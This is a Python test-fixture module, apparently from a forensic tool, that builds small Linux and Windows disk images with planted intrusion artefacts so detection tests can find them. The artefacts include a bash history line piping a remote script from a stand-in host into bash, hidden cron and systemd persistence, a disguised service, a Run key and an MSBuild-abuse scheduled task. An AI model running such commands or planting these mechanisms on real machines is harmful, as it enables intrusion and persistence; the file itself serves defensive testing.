"""What the tests plant in the images and collections they build, in one place.

Each planted artefact is something a handler looks for after an intrusion; the tests
check that every one of them surfaces as a finding or in the timeline.
"""

from __future__ import annotations

import shutil
import subprocess
from collections.abc import Mapping
from pathlib import Path

from tests.analyzers.disk.regf_builder import build_hive

LINUX_HOST = "victim-web01"
ATTACKER_IP = "203.0.113.7"
WINDOWS_HOST = "WIN-VICTIM01"

_SSHD = f"{LINUX_HOST} sshd[1234]:"
AUTH_LOG = (
    f"Mar  3 10:15:01 {_SSHD} Failed password for root from {ATTACKER_IP} port 51234 ssh2\n"
    f"Mar  3 10:15:05 {_SSHD} Accepted password for root from {ATTACKER_IP} port 51234 ssh2\n"
)
BASH_HISTORY = "ls -la\ncurl -s http://198.51.100.9/x.sh | bash\nhistory -c\n"
CRON_ENTRY = "*/5 * * * * root /tmp/.x/kworker >/dev/null 2>&1\n"
SYSTEMD_UNIT = """\
[Unit]
Description=System helper
[Service]
ExecStart=/dev/shm/.helper/syshelper -c /dev/shm/.helper/c.conf
[Install]
WantedBy=multi-user.target
"""


def linux_files() -> dict[str, bytes]:
    """Path (POSIX, from the root) to content of a small Linux system."""
    return {
        "etc/hostname": f"{LINUX_HOST}\n".encode(),
        "etc/passwd": (
            b"root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n"
        ),
        "etc/os-release": b'NAME="Debian GNU/Linux"\nID=debian\nVERSION_ID="12"\n',
        "etc/sysctl.conf": b"# kernel settings\n",
        "etc/cron.d/updater": CRON_ENTRY.encode(),
        "etc/systemd/system/syshelper.service": SYSTEMD_UNIT.encode(),
        "var/log/auth.log": AUTH_LOG.encode(),
        "root/.bash_history": BASH_HISTORY.encode(),
        "home/alice/.bashrc": b"# alice\n",
        "opt/.keep": b"",
    }


def write_tree(root: Path, files: Mapping[str, bytes]) -> Path:
    for relative, data in files.items():
        path = root / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return root


def make_ext4(tree: Path, image: Path, size: str = "4M") -> Path:
    """An ext4 image holding ``tree``, made by mkfs.ext4 -d (no mount)."""
    subprocess.run(
        ["mkfs.ext4", "-q", "-F", "-d", str(tree), str(image), size],
        check=True,
        capture_output=True,
    )
    return image


def tool_missing(*tools: str) -> str | None:
    missing = [t for t in tools if shutil.which(t) is None]
    if missing:
        return f"{', '.join(missing)} not installed (see tools/system-deps.sh)"
    return None


# -- Windows ------------------------------------------------------------------------------------

TASK_XML = """<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><Date>2025-03-01T09:00:00</Date><Author>WIN\\admin</Author>
    <URI>\\OneDriveUpdater</URI></RegistrationInfo>
  <Triggers><LogonTrigger><Enabled>true</Enabled></LogonTrigger></Triggers>
  <Actions Context="Author"><Exec>
    <Command>C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe</Command>
    <Arguments>C:\\ProgramData\\Microsoft\\update.xml</Arguments></Exec></Actions>
</Task>
"""
MSBUILD_PROJECT = (
    '<Project ToolsVersion="4.0" xmlns="http://schemas.microsoft.com/developer/msbuild/2003">'
    '<Target Name="T"><Loader/></Target><UsingTask TaskName="Loader" '
    'TaskFactory="CodeTaskFactory" AssemblyFile="Microsoft.Build.Tasks.v4.0.dll">'
    '<Task><Code Type="Class" Language="cs">/* test content, no code */</Code></Task>'
    "</UsingTask></Project>"
)
WSB = (
    "<Configuration><MappedFolders><MappedFolder><HostFolder>C:\\ProgramData\\sb</HostFolder>"
    "</MappedFolder></MappedFolders><LogonCommand><Command>C:\\sb\\run.bat</Command>"
    "</LogonCommand></Configuration>"
)
YARA_MARKER = b"MADOGUCHI-DISK-TEST-YARA-MARKER"


def system_hive() -> bytes:
    return build_hive(
        {
            "Select": {"Current": 1},
            "ControlSet001": {
                "Control": {"ComputerName": {"ComputerName": {"ComputerName": WINDOWS_HOST}}},
                "Services": {
                    "EvilSvc": {
                        "ImagePath": "C:\\ProgramData\\evil\\svc.exe",
                        "Start": 2,
                        "Type": 16,
                        "DisplayName": "Windows Update Helper",
                    },
                    "Spooler": {
                        "ImagePath": "%SystemRoot%\\System32\\spoolsv.exe",
                        "Start": 2,
                        "Type": 16,
                    },
                },
            },
        },
        name="SYSTEM",
    )


def software_hive() -> bytes:
    return build_hive(
        {
            "Microsoft": {
                "Windows": {
                    "CurrentVersion": {
                        "Run": {"Updater": "C:\\Users\\Public\\upd.exe -k"},
                        "Uninstall": {
                            "AnyDesk": {"DisplayName": "AnyDesk", "DisplayVersion": "8.0.8"}
                        },
                    }
                },
                "Windows NT": {
                    "CurrentVersion": {
                        "ProductName": "Windows 10 Pro",
                        "CurrentBuild": "19045",
                        "SystemRoot": "C:\\Windows",
                    }
                },
            }
        },
        name="SOFTWARE",
    )


def windows_files() -> dict[str, bytes]:
    """Path (from the drive root) to content of a small Windows system drive."""
    return {
        "Windows/System32/config/SYSTEM": system_hive(),
        "Windows/System32/config/SOFTWARE": software_hive(),
        "Windows/System32/Tasks/OneDriveUpdater": TASK_XML.encode("utf-16"),
        "ProgramData/rclone.exe": b"MZ" + b"\x00" * 62 + b"rclone placeholder for a test",
        "ProgramData/Microsoft/update.xml": MSBUILD_PROJECT.encode(),
        "Users/alice/AppData/Local/Temp/app/setup.exe": b"MZ" + b"\x01" * 100,
        "Users/alice/AppData/Local/Temp/app/version.dll": b"MZ" + b"\x02" * 100 + YARA_MARKER,
        "Users/alice/Desktop/sandbox.wsb": WSB.encode(),
        "Users/Public/upd.exe": b"MZ" + b"\x03" * 300,
    }
